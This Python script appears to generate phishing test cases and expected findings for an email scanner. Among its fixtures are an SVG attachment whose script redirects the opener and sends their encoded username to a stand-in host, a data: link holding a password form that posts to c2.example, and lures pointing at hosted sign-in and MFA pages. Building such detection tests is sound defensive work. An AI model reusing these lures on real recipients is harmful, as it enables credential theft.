#!/usr/bin/env python3
"""Where links really go, and what attachments hand over: cases written apart
from the corpora (own wording, other brands and languages).  Links in PDFs
(plain and password-protected with the password in the body), open redirects
to IPFS, numeric IPs, homograph hosts, form services from free mail, data:
links, shorteners; calendar invites, SVG images with script, HTML files that
only redirect; QR codes in inline pictures, PDFs and data: pictures;
encrypted zips with the password in the body; and the near
misses that must stay quiet: a newsletter's shortened links, a university
list's survey, a Japanese IDN, a gateway-wrapped link, an intranet address, a
Teams invite, a logo SVG, an HTML report, a ticket QR code, an encrypted zip
whose password comes by phone.
Standard library only (zip(1) for the encrypted zips, qrencode(1) for the QR
codes; those cases are left out without them); writes *.eml and expected.json
into the directory given."""
import base64, hashlib, json, os, quopri, shutil, subprocess, sys, tempfile, zlib

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = sys.argv[1] if len(sys.argv) > 1 else os.path.join(HERE, "cases")
VICTIM = "minamikaze-unyu.co.jp"
MX = "mx." + VICTIM
RCPT = ("総務部 小林 美穂", "miho.kobayashi@" + VICTIM)
CASES = {}
os.makedirs(OUT, exist_ok=True)


def case(name, data, must=(), must_not=(), checks=(), note=""):
    CASES[name] = {"must": list(must), "must_not": list(must_not), "checks": list(checks),
                   "note": note}
    with open(os.path.join(OUT, name), "wb") as f:
        f.write(data if isinstance(data, bytes) else data.encode("utf-8"))


def sev(rule, severity):
    return {"finding": rule, "severity": severity}


def ew(text):
    return "=?UTF-8?B?%s?=" % base64.b64encode(text.encode("utf-8")).decode()


def addr(name, a):
    if all(ord(c) < 128 for c in name):
        return '"%s" <%s>' % (name, a)
    return "%s <%s>" % (ew(name), a)


def message(headers, body):
    return "\n".join("%s: %s" % hv for hv in headers) + "\n\n" + body + ("" if body.endswith("\n") else "\n")


def text_part(t):
    return message([("Content-Type", 'text/plain; charset="UTF-8"'),
                    ("Content-Transfer-Encoding", "base64")],
                   base64.encodebytes(t.encode()).decode())


def html_part(h):
    return message([("Content-Type", 'text/html; charset="UTF-8"'),
                    ("Content-Transfer-Encoding", "quoted-printable")],
                   quopri.encodestring(h.encode()).decode())


def attachment(fn, data, ctype="application/octet-stream"):
    return message([("Content-Type", '%s; name="%s"' % (ctype, fn)),
                    ("Content-Disposition", 'attachment; filename="%s"' % fn),
                    ("Content-Transfer-Encoding", "base64")],
                   base64.encodebytes(data).decode())


def mail(frm, subject, parts, extra=(), date="Tue, 14 Jan 2025 10:21:07 +0900"):
    dom = frm[1].split("@")[1]
    hdr = [("Return-Path", "<%s>" % frm[1]),
           ("Authentication-Results", "%s; spf=pass smtp.mailfrom=%s; dkim=pass header.d=%s; "
            "dmarc=pass header.from=%s" % (MX, dom, dom, dom)),
           ("Received", "from mail.%s (mail.%s [198.51.100.31])\n\tby %s (Postfix) with ESMTPS "
            "id 4Yq%d\n\tfor <%s>; %s" % (dom, dom, MX, len(CASES), RCPT[1], date)),
           ("From", addr(*frm)), ("To", addr(*RCPT)),
           ("Subject", subject if all(ord(c) < 128 for c in subject) else ew(subject)),
           ("Date", date), ("Message-ID", "<%d.links@%s>" % (len(CASES) + 500, dom))]
    hdr += list(extra)
    hdr.append(("MIME-Version", "1.0"))
    if isinstance(parts, str):
        hdr += [("Content-Type", 'text/plain; charset="UTF-8"'), ("Content-Transfer-Encoding", "8bit")]
        return message(hdr, parts)
    b = "=_links_%d" % len(CASES)
    hdr.append(("Content-Type", 'multipart/mixed; boundary="%s"' % b))
    body = "This is a multi-part message in MIME format.\n"
    for p in parts:
        body += "\n--%s\n%s" % (b, p)
    return message(hdr, body + "\n--%s--\n" % b)


# ------------------------------------------------------------------ PDF writer

def pdf_bytes(objs, trailer_extra=""):
    """objs: object bodies (bytes) numbered 1..n, 1 the catalog; exact xref."""
    out = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n"
    offs = []
    for i, o in enumerate(objs, 1):
        offs.append(len(out))
        out += b"%d 0 obj\n" % i + o + b"\nendobj\n"
    x = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    for off in offs:
        out += b"%010d 00000 n \n" % off
    out += b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objs) + 1, trailer_extra.encode(), x)
    return out


def rc4(key, data):
    s = list(range(256))
    j = 0
    for i in range(256):
        j = (j + s[i] + key[i % len(key)]) % 256
        s[i], s[j] = s[j], s[i]
    out = bytearray()
    i = j = 0
    for c in data:
        i = (i + 1) % 256
        j = (j + s[i]) % 256
        s[i], s[j] = s[j], s[i]
        out.append(c ^ s[(s[i] + s[j]) % 256])
    return bytes(out)


# ISO 32000-1 7.6.3.3, the padding string of the standard security handler
PAD = bytes.fromhex("28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A")


def link_pdf(uri, text="Clique no link abaixo para regularizar.", user_password=None):
    """One page with a text line and a Link annotation whose action opens uri;
    RC4 40-bit (revision 2, ISO 32000-1 7.6.3) when user_password is given."""
    content = ("BT /F1 14 Tf 72 720 Td (%s) Tj ET" % text).encode("latin-1")
    key = None
    extra = ""
    enc_obj = []
    if user_password is not None:
        doc_id = hashlib.md5(uri.encode()).digest()
        owner = hashlib.md5((user_password.encode() + PAD)[:32]).digest()[:5]
        o = rc4(owner, (user_password.encode() + PAD)[:32])
        p = -44
        key = hashlib.md5((user_password.encode() + PAD)[:32] + o + p.to_bytes(4, "little", signed=True)
                          + doc_id).digest()[:5]
        u = rc4(key, PAD)
        enc_obj = [b"<< /Filter /Standard /V 1 /R 2 /O <%s> /U <%s> /P %d >>"
                   % (o.hex().encode(), u.hex().encode(), p)]
        extra = "/Encrypt 6 0 R /ID [<%s> <%s>]" % (doc_id.hex(), doc_id.hex())

    def protect(num, data):
        if key is None:
            return data
        k = hashlib.md5(key + num.to_bytes(3, "little") + b"\x00\x00").digest()[:10]
        return rc4(k, data)

    uri_hex = protect(5, uri.encode()).hex().encode()
    stream = protect(4, content)
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> "
        b"/Annots [5 0 R] >>",
        b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
        b"<< /Type /Annot /Subtype /Link /Rect [72 600 400 640] /Border [0 0 0] "
        b"/A << /S /URI /URI <" + uri_hex + b"> >> >>",
    ] + enc_obj
    return pdf_bytes(objs, extra)


def encrypted_zip(files, password):
    """zip -P (ZipCrypto); None without zip(1)."""
    if not shutil.which("zip"):
        return None
    d = tempfile.mkdtemp()
    try:
        for n, data in files.items():
            with open(os.path.join(d, n), "wb") as f:
                f.write(data)
        subprocess.run(["zip", "-q", "-P", password, "out.zip"] + list(files), cwd=d, check=True)
        with open(os.path.join(d, "out.zip"), "rb") as f:
            return f.read()
    finally:
        shutil.rmtree(d)


def shortcut_bytes():
    """The 76-byte LNK header (MS-SHLLINK 2.1) with nothing after it: enough
    for the name and type rules of a .lnk in the zip."""
    return (b"\x4c\x00\x00\x00" + bytes.fromhex("0114020000000000c000000000000046")
            + b"\x00" * 56)


FREEMAIL = ("Atendimento Cliente", "atendimento.cliente.2025@gmail.example")

# ------------------------------------------------------------------ links in PDFs

case("l01_pdf_link_to_azure_static_site.eml",
     mail(FREEMAIL, "Aviso: dispositivo bloqueado - Protocolo 88213",
          [text_part("Prezado cliente,\n\nSeu dispositivo foi bloqueado por segurança.\n"
                     "Veja as instruções no documento em anexo.\n"),
           attachment("Aviso_88213.pdf",
                      link_pdf("https://regulariza-acesso7.z20.web.core.windows.net/"),
                      "application/pdf")]),
     must=["link.free_hosting"],
     checks=[sev("link.free_hosting", "high"),
             {"path": "body.links.0.location", "equals": "part:2"},
             {"path": "body.links.0.href", "equals": "https://regulariza-acesso7.z20.web.core.windows.net/"}],
     note="a PDF holding one link: the link is the mail's, and where it goes is judged")

case("l02_locked_pdf_password_in_body.eml",
     mail(FREEMAIL, "Pontos disponíveis para resgate",
          [text_part("Olá,\n\nSeus pontos expiram hoje. Siga as instruções do PDF.\n"
                     "Senha para abrir o arquivo: 4821\n"),
           attachment("Resgate_pontos.pdf",
                      link_pdf("https://resgate-pontos.pages.dev/inicio", user_password="4821"),
                      "application/pdf")]),
     must=["attachment.encrypted_document", "link.free_hosting"],
     checks=[sev("attachment.encrypted_document", "high"),
             {"path": "body.links.0.href", "equals": "https://resgate-pontos.pages.dev/inicio"}],
     note="a locked PDF, its password in the body: opened with it, its link judged")

case("n01_locked_pdf_password_elsewhere.eml",
     mail(("Kontoauszug", "kontoauszug@bank-nord.example"), "Ihr Kontoauszug Januar",
          [text_part("Guten Tag,\n\nanbei Ihr Kontoauszug. Das Passwort ist Ihr Geburtsdatum.\n"),
           attachment("Kontoauszug_2025_01.pdf",
                      link_pdf("https://www.bank-nord.example/hilfe", "Kontoauszug",
                               user_password="19800412"), "application/pdf")]),
     must=["attachment.encrypted_document"], must_not=["link.free_hosting"],
     checks=[sev("attachment.encrypted_document", "low")],
     note="near miss: a statement whose password the body does not give")

# ------------------------------------------------------------------ body links

case("l03_bing_redirect_to_ipfs.eml",
     mail(("Mailbox Administrator", "it-desk@quota-notice.example"), "Your mailbox is almost full",
          [html_part('<p>Your mailbox has reached 98%% of its quota.</p><p><a href="https://www.bing.com/'
                     'ck/a?!&amp;&amp;p=9f2&amp;ptn=3&amp;u=a1%s&amp;ntb=1">Increase storage</a></p>'
                     % base64.urlsafe_b64encode(b"https://gw.example-ipfs.net/ipfs/"
                                                b"bafybeihkoviema7g3gxyt6la7vd5ho32ictqbilu3wnlo3rs7ewhnp7lly/"
                                                b"quota.html").decode().rstrip("="))]),
     must=["link.open_redirect", "link.free_hosting"],
     checks=[sev("link.free_hosting", "high")],
     note="Bing's click redirect read (base64url) to an IPFS page on an unlisted gateway")

case("l04_decimal_ip_link.eml",
     mail(("Payroll", "payroll@hr-portal-notice.example"), "Updated salary statement",
          [html_part('<p>Please review your updated salary statement:</p>'
                     '<p><a href="http://3405803853/hr/statement">View statement</a></p>')]),
     must=["link.ip_literal"], checks=[sev("link.ip_literal", "high")],
     note="203.0.113.77 written as one decimal number")

case("l05_cyrillic_homograph_link.eml",
     mail(("Apple Support", "noreply@id-support-center.example"), "Your Apple ID was locked",
          [html_part('<p>Your account was locked for security reasons.</p>'
                     '<p><a href="https://xn--80ak6aa92e.com/unlock">Unlock now</a></p>')]),
     must=["link.punycode"], checks=[sev("link.punycode", "high")],
     note="an all-Cyrillic host that reads as a Latin name")

case("l06_google_form_from_free_mail.eml",
     mail(("Help Desk", "helpdesk.account.verify@gmail.example"), "Email account verification",
          "Dear user,\n\nAll staff must re-validate their e-mail account by Friday.\n"
          "Complete the form: https://docs.google.com/forms/d/e/1FAIpQLSd-xY7/viewform\n"),
     must=["link.form_service"], checks=[sev("link.form_service", "medium")],
     note="a form service asking for an account, from a free-mail address, no list")

case("l07_data_uri_link.eml",
     mail(("Fax Service", "fax@efax-delivery.example"), "You have a new fax (2 pages)",
          [html_part('<p>A new document was received.</p><p><a href="data:text/html;base64,'
                     'PGZvcm0gYWN0aW9uPSJodHRwczovL2MyLmV4YW1wbGUvIj48aW5wdXQgdHlwZT0icGFzc3dvcmQiPjwvZm9ybT4=">'
                     'Open fax</a></p>')]),
     must=["link.script_uri"], checks=[sev("link.script_uri", "high")],
     note="a whole page in a data: link (HTML smuggling)")

case("l08_shortener_in_personal_mail.eml",
     mail(("Kenji Mori", "kenji.mori@partner-shoji.example"), "資料の件",
          "小林様\n\n先日の資料はこちらからご確認ください。\nhttps://tinyurl.com/yc8k2m4p\n\n森\n"),
     must=["link.shortener"], checks=[sev("link.shortener", "low")],
     note="a shortener in one person's mail: named, weak")

case("l09_punycode_math_letters.eml",
     mail(("Rewards", "rewards@points-club.example"), "You won a gift card",
          [html_part('<a href="https://\U0001d42c\U0001d41e\U0001d42b\U0001d42f\U0001d422\U0001d41c\U0001d41e'
                     '.reward-claim.example/x">Claim</a>')]),
     must=["link.punycode"], checks=[sev("link.punycode", "high")],
     note="mathematical bold letters that IDNA maps to ASCII")

case("l18_machine_made_idn_subdomain.eml",
     mail(("Prijzenteam", "nieuws.QkRt@tuinhuis-actie.example"), "Uw cadeaubon wacht",
          [html_part('<a href="  http://\u00f0K3v9&#159;Tq&#156;7mWz.ferienhaus-rent.example/r7c1.php?32=1o9f2">'
                     '<div style="width:550px;height:900px;background:url(\'https://img.example/b.png\') '
                     'no-repeat;text-indent:-9999px">Bekijk</div></a>')]),
     must=["link.punycode", "html.image_only_body"], checks=[sev("link.punycode", "medium")],
     note="a fresh IDN label per mail under a wildcard domain, written with &#159; "
          "(U+0178 to a browser); the lure is a CSS background picture")

case("l19_host_name_spells_an_ip.eml",
     mail(("Gesund Schlafen", "angebot@kissen-aktion.example"), "Ihr neues Kissen",
          [html_part('<p>Schluss mit Nackenschmerzen.</p><p><a href="http://qmvtsal.198-51-100-23.'
                     'cloud-names.example/k?u=1">Jetzt ansehen</a></p>')]),
     must=["link.ip_literal"], checks=[sev("link.ip_literal", "medium")],
     note="a rented wildcard-DNS name that spells 198.51.100.23")

case("l20_dynamic_dns_reset_page.eml",
     mail(("Suporte", "suporte@webmail-avisos.example"), "Sua senha expira hoje",
          "Olá,\nmantenha sua senha atual: https://contas-webmail.dns.army/manter/?u=ana\n"),
     must=["link.free_hosting"], checks=[sev("link.free_hosting", "medium")],
     note="a page on a dynamic DNS name (dynv6)")

# ------------------------------------------------------------------ near misses

NEWS = [("List-Unsubscribe", "<https://news.bookshop-kaede.example/unsub?u=77>"),
        ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click"), ("Precedence", "bulk")]
case("n02_newsletter_with_shorteners.eml",
     mail(("Bookshop Kaede", "news@bookshop-kaede.example"), "New arrivals this week",
          [html_part('<h1>New arrivals</h1><p><a href="https://bit.ly/3kaede1">Spring novels</a> '
                     '<a href="https://bit.ly/3kaede2">Cookbooks</a> <a href="https://ow.ly/kaede3">'
                     'Events</a> <a href="https://forms.gle/kaedeSurvey">Tell us what you think</a></p>')],
          extra=NEWS),
     must_not=["link.shortener", "link.form_service", "link.open_redirect"],
     note="near miss: a newsletter's shortened links and reader survey")

case("n03_university_list_google_form.eml",
     mail(("Graduate School Office", "gs-office@univ-kitano.example"), "Course evaluation survey",
          "Dear students,\n\nPlease answer the course evaluation by 31 January:\n"
          "https://docs.google.com/forms/d/e/1FAIpQLSc-course-eval/viewform\n\nGraduate School Office\n",
          extra=[("List-Id", "Graduate students <grad-students.lists.univ-kitano.example>"),
                 ("List-Post", "<mailto:grad-students@lists.univ-kitano.example>"),
                 ("Precedence", "list")]),
     must_not=["link.form_service"],
     note="near miss: a real survey from a university mailing list")

case("n04_japanese_idn_link.eml",
     mail(("田中 花子", "hanako.tanaka@partner-shoji.example"), "新店舗のご案内",
          "小林様\n\n新しいサイトを公開しました。\nhttps://xn--wgv71a119e.jp/shop\n\n田中\n"),
     checks=[sev("link.punycode", "info")], must_not=["link.free_hosting"],
     note="near miss: an honest Japanese IDN is named, not counted")

case("n17_idn_word_subdomain_with_banner.eml",
     mail(("Buchhandlung Ahorn", "info@ahorn-buch.example"), "Neue Filiale",
          [html_part('<p>Unsere neue Filiale ist eröffnet: Lesungen, Kinderecke und Café.</p>'
                     '<a href="https://bücher.ahorn-buch.example/filiale"><div style="height:200px;'
                     'background-image:url(https://ahorn-buch.example/filiale.jpg)"> </div></a>')]),
     checks=[sev("link.punycode", "info")], must_not=["html.image_only_body"],
     note="near miss: a word as IDN subdomain, a background banner beside real text")

case("n05_safelinks_and_intranet.eml",
     mail(("情報システム部", "it@" + VICTIM), "社内ポータル移行のお知らせ",
          [html_part('<p>新ポータル: <a href="https://apc01.safelinks.protection.outlook.com/?url='
                     'https%3A%2F%2Fportal.minamikaze-unyu.co.jp%2Fhome&amp;data=05%7C02">ポータル</a></p>'
                     '<p>旧サーバ: <a href="http://192.168.20.15/wiki/">http://192.168.20.15/wiki/</a></p>')]),
     must_not=["link.ip_literal", "link.open_redirect", "html.link_text_mismatch"],
     note="near miss: a gateway-wrapped company link and an intranet address")

case("n18_release_and_date_hosts.eml",
     mail(("Build Bot", "builds@ci.harbor-supply.example"), "Release 1-2-3 is out",
          "Release notes: https://release-1-2-3.downloads.harbor-supply.example/notes\n"
          "Event page: https://2025-10-01.events.harbor-supply.example/\n"
          "Staging: http://10-0-0-8.nip.io/\n"),
     must_not=["link.ip_literal"],
     note="near miss: version numbers, a date and a private address in host names")

# ------------------------------------------------------------------ calendar invites

def invite(organizer, description, extra_lines=""):
    return ("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Example Corp//Calendar 1.0//EN\r\n"
            "METHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:%s\r\nDTSTART:20250120T010000Z\r\n"
            "DTEND:20250120T013000Z\r\nORGANIZER;CN=\"%s\":mailto:%s\r\nSUMMARY:%s\r\n"
            "DESCRIPTION:%s\r\n%sEND:VEVENT\r\nEND:VCALENDAR\r\n"
            % (hashlib.md5(description.encode()).hexdigest(), organizer[0], organizer[1],
               "Benefits enrolment", description, extra_lines)).encode()


def calendar_part(data):
    return message([("Content-Type", 'text/calendar; charset="UTF-8"; method=REQUEST'),
                    ("Content-Disposition", 'attachment; filename="invite.ics"'),
                    ("Content-Transfer-Encoding", "base64")],
                   base64.encodebytes(data).decode())


HRFAKE = ("HR Benefits Team", "benefits@hr-enrolment-center.example")
case("l12_invite_with_hosted_login.eml",
     mail(HRFAKE, "Invitation: Benefits enrolment closes Monday",
          [text_part("You have been invited to: Benefits enrolment.\n"),
           calendar_part(invite(HRFAKE, "Confirm your 2025 elections before the window closes:\\n"
                                "https://enrol-2025-benefits.web.app/signin\\nHR Benefits"))]),
     must=["attachment.calendar_link", "link.free_hosting"],
     note="an invite whose description links to a hosted sign-in page")

ITO = ("伊藤 健", "ken.ito@kitano-kogyo.example")
case("n07_teams_invite_from_organiser.eml",
     mail(ITO, "定例会議のご案内",
          [text_part("小林様\n\n定例会議の招待をお送りします。\n"),
           calendar_part(invite(ITO, "Microsoft Teams 会議\\nhttps://teams.microsoft.com/l/meetup-join/"
                                "19%3ameeting_NjQ5\\n詳細: https://aka.ms/JoinTeamsMeeting\\n"
                                "議事次第: https://www.kitano-kogyo.example/agenda/0120",
                                "X-MICROSOFT-SKYPETEAMSMEETINGURL:https://teams.microsoft.com/l/"
                                "meetup-join/19%3ameeting_NjQ5\r\n"))]),
     must_not=["attachment.calendar_link", "link.free_hosting", "link.shortener"],
     note="near miss: a Teams invite with the organiser's own agenda link")

# ------------------------------------------------------------------ SVG and HTML attachments

VM = ("Voice Message Center", "voicemail@unified-messaging-notice.example")
case("l13_svg_voicemail_with_script.eml",
     mail(VM, "New voice message (0:42) from +81 3-5555-0199",
          [text_part("You received a new voice message. Open the attachment to play it.\n"),
           attachment("VM_0042_play.svg",
                      b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="300" '
                      b'height="80"><rect width="300" height="80" fill="#0a5"/><text x="20" y="45">'
                      b'Play message</text><script><![CDATA[setTimeout(function(){window.location.href='
                      b'"https://vm-listen.r2.dev/p?m="+btoa("miho.kobayashi")},800)]]></script></svg>',
                      "image/svg+xml")]),
     must=["attachment.svg_active"], checks=[sev("attachment.svg_active", "high")],
     note="an SVG that runs script to send its opener away")

case("n08_svg_logo_attachment.eml",
     mail(("デザイン室 佐々木", "sasaki@design-office.example"), "ロゴ案（修正版）",
          [text_part("小林様\n\nロゴの修正版を添付します。\n"),
           attachment("logo_v3.svg",
                      b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 120 40"><title>Minamikaze'
                      b'</title><path d="M4 36 L20 4 L36 36 Z" fill="#1a6"/><text x="44" y="28" '
                      b'font-family="sans-serif">minamikaze</text></svg>',
                      "image/svg+xml")]),
     must_not=["attachment.svg_active", "attachment.html_redirect", "html.remote_script"],
     note="near miss: a drawing is only a drawing")

case("l14_html_attachment_only_redirects.eml",
     mail(("Document Share", "share@secure-docs-notice.example"), "Shared: Q1 payment schedule.xlsx",
          [text_part("A document was shared with you. Open the attached file to view it.\n"),
           attachment("Q1_payment_schedule.html",
                      b'<html><head><meta http-equiv="refresh" content="0; url=https://q1-payments.'
                      b'netlify.app/view?e=miho.kobayashi%40minamikaze-unyu.co.jp"></head><body>'
                      b'Opening document...</body></html>', "text/html")]),
     must=["attachment.html_redirect", "link.free_hosting"],
     checks=[sev("attachment.html_redirect", "high")],
     note="an HTML file that only sends its opener to a hosted page")

case("n16_html_frame_page_attachment.eml",
     mail(("Webmaster Ito", "ito@" + VICTIM), "Saved page of the old portal",
          [text_part("Hi,\n\nthe old portal's start page, saved from the archive, is attached.\n"),
           attachment("index.html",
                      b'<html><head><meta http-equiv="refresh" content="1; URL=frames/start.html">'
                      b'</head><body>One moment</body></html>', "text/html")]),
     must_not=["attachment.html_redirect"],
     note="near miss: a saved page whose refresh goes to a file beside it")

case("n09_html_report_attachment.eml",
     mail(("経理部 中村", "nakamura@" + VICTIM), "月次レポート",
          [text_part("各位\n\n月次レポートをHTMLで添付します。\n"),
           attachment("monthly_report.html",
                      ("<html><head><meta charset='utf-8'><title>月次レポート</title></head><body>"
                       "<h1>1月 月次レポート</h1>" + "<p>売上は前月比で増加し、物流費は横ばいでした。</p>" * 12 +
                       "<p><a href='https://intranet.minamikaze-unyu.co.jp/reports'>社内ポータル</a></p>"
                       "</body></html>").encode(), "text/html")]),
     must_not=["attachment.html_redirect", "link.free_hosting", "html.link_text_mismatch"],
     note="near miss: an HTML report with text and an intranet link")

# ------------------------------------------------------------------ QR codes

def qr_matrix(text):
    """The modules of text's QR code (True = dark) with a 4-module quiet zone,
    from qrencode(1); None without it."""
    if not shutil.which("qrencode"):
        return None
    out = subprocess.run(["qrencode", "-t", "ASCII", "-m", "4", text], capture_output=True,
                         text=True, check=True).stdout
    return [[c == "#" for c in row[::2]] for row in out.split("\n") if row]


def qr_grey(text, module=5):
    m = qr_matrix(text)
    if m is None:
        return None
    n = len(m) * module
    return n, bytes(0 if m[y // module][x // module] else 255 for y in range(n) for x in range(n))


def png_grey(size, pixels):
    """An 8-bit greyscale PNG (PNG spec 11.2.2, filter type 0 on every row)."""
    raw = b"".join(b"\x00" + pixels[y * size:(y + 1) * size] for y in range(size))

    def chunk(kind, data):
        return (len(data).to_bytes(4, "big") + kind + data
                + (zlib.crc32(kind + data) & 0xffffffff).to_bytes(4, "big"))
    ihdr = size.to_bytes(4, "big") * 2 + bytes([8, 0, 0, 0, 0])
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(raw))
            + chunk(b"IEND", b""))


def qr_pdf(size, pixels, text="Scan the code with your phone to sign the document."):
    """One page drawing a deflated greyscale image XObject (no text layer links)."""
    img = zlib.compress(pixels)
    content = ("BT /F1 12 Tf 72 740 Td (%s) Tj ET q 200 0 0 200 72 500 cm /Im1 Do Q" % text).encode()
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << "
        b"/Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> "
        b"/XObject << /Im1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        b"<< /Type /XObject /Subtype /Image /Width %d /Height %d /BitsPerComponent 8 "
        b"/ColorSpace /DeviceGray /Filter /FlateDecode /Length %d >>\nstream\n" % (size, size, len(img))
        + img + b"\nendstream",
    ]
    return pdf_bytes(objs)


def related(html, cid, png):
    b = "=_rel_%d" % len(CASES)
    return message([("Content-Type", 'multipart/related; boundary="%s"' % b)],
                   "--%s\n%s\n--%s\n%s\n--%s--\n" % (
                       b, html_part(html), b,
                       message([("Content-Type", 'image/png; name="%s.png"' % cid),
                                ("Content-ID", "<%s>" % cid),
                                ("Content-Disposition", 'inline; filename="%s.png"' % cid),
                                ("Content-Transfer-Encoding", "base64")],
                               base64.encodebytes(png).decode()), b))


MFA = qr_grey("https://mfa-reenrol.z6.web.core.windows.net/?u=miho.kobayashi")
if MFA:
    IT = ("IT Security", "security-alerts@m365-mfa-center.example")
    case("l15_inline_qr_mfa.eml",
         mail(IT, "Action required: re-enrol multi-factor authentication",
              [related('<p>Your MFA registration expires today.</p><p>Scan the code below with your '
                       'phone camera to keep access:</p><img src="cid:mfa01" alt="">', "mfa01",
                       png_grey(*MFA))]),
         must=["attachment.qr_code", "link.free_hosting"],
         checks=[sev("link.free_hosting", "high")],
         note="quishing: an inline QR picture whose link goes to an Azure static site")
    PAY = qr_grey("https://parkgebuehr-zahlen.pages.dev/z?p=4471")
    case("l16_pdf_with_qr_image.eml",
         mail(("Stadtwerke Parkraum", "parkraum@stadt-service-portal.example"), "Zahlungserinnerung Parkgebühr",
              [text_part("Sehr geehrte Damen und Herren,\n\nbitte begleichen Sie die offene Parkgebühr. "
                         "Den QR-Code finden Sie im Anhang.\n"),
               attachment("Zahlungserinnerung.pdf", qr_pdf(*PAY), "application/pdf")]),
         must=["attachment.qr_code", "link.free_hosting"],
         note="a QR code drawn in a PDF, read without rendering the page")
    case("l17_qr_as_data_uri_in_body.eml",
         mail(("DocuSafe", "sign@docusafe-envelopes.example"), "Please sign: Employment agreement 2025",
              [html_part('<p>You have a document to review and sign.</p><img alt="scan" src="data:image/png;'
                         'base64,%s"><p>Scan with your phone.</p>'
                         % base64.b64encode(png_grey(*MFA)).decode())]),
         must=["attachment.qr_code"],
         checks=[{"path": "body.links.0.text", "equals": "[QR code]"}],
         note="a QR picture written into the HTML body as a data: URI")
    TICKET = qr_grey("TKT-2025-0120-A17-SEAT-22")
    case("n10_ticket_qr_without_link.eml",
         mail(("南風ホール", "ticket@minamikaze-hall.example"), "【チケット】1月20日 公演",
              [related("<p>小林様</p><p>ご来場の際は以下のQRコードを受付でご提示ください。</p>"
                       '<img src="cid:tkt" alt="ticket">', "tkt", png_grey(*TICKET))]),
         must_not=["attachment.qr_code"],
         note="near miss: an admission QR code holding a ticket number, not a link")

# ------------------------------------------------------------------ archives

lnk_zip = encrypted_zip({"Rechnung_0114.pdf.lnk": shortcut_bytes()}, "RE2025")
if lnk_zip:
    case("l10_zip_password_in_body.eml",
         mail(("Buchhaltung", "buchhaltung@lieferant-sued.example"), "Rechnung 0114",
              [text_part("Guten Tag,\n\nanbei die Rechnung als geschütztes Archiv.\n"
                         "Passwort: RE2025\n\nMit freundlichen Grüßen\n"),
               attachment("Rechnung_0114.zip", lnk_zip, "application/zip")]),
         must=["attachment.encrypted_archive", "attachment.dangerous_type"],
         checks=[sev("attachment.encrypted_archive", "high")],
         note="the zip is opened with the body's password and its shortcut seen")
    ja_zip = encrypted_zip({"見積書.docm": b"PK\x03\x04 not really a document"}, "mitsumori88")
    case("l11_zip_password_in_japanese_body.eml",
         mail(("営業部 山本", "yamamoto@torihiki-saki.example"), "お見積書送付の件",
              [text_part("小林様\n\nお見積書をお送りします。\n解凍パスワード：ｍｉｔｓｕｍｏｒｉ８８\n"
                         "よろしくお願いいたします。\n"),
               attachment("見積書.zip", ja_zip, "application/zip")]),
         must=["attachment.encrypted_archive"],
         checks=[sev("attachment.encrypted_archive", "high")],
         note="a full-width password after 解凍パスワード：")
    case("n06_zip_password_by_phone.eml",
         mail(("営業部 山本", "yamamoto@torihiki-saki.example"), "お見積書送付の件",
              [text_part("小林様\n\nお見積書をお送りします。\nパスワードは別途お電話でお伝えします。\n"),
               attachment("見積書.zip", ja_zip, "application/zip")]),
         must=["attachment.encrypted_archive"],
         checks=[sev("attachment.encrypted_archive", "medium")],
         note="near miss: the password is not in the body (PPAP done by phone)")


if __name__ == "__main__":
    with open(os.path.join(OUT, "expected.json"), "w") as f:
        json.dump(CASES, f, indent=1, ensure_ascii=False)
    print(len(CASES), "cases")
